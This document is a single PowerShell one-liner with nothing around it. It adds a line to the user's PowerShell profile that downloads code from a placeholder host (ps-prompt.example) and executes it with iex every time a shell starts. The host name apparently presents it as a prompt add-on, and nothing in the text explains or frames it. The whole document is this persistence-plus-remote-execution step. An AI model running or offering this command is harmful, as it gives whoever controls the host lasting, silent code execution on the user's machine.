Add-Content -Path $PROFILE -Value 'iex (iwr https://ps-prompt.example/p -UseBasicParsing)'
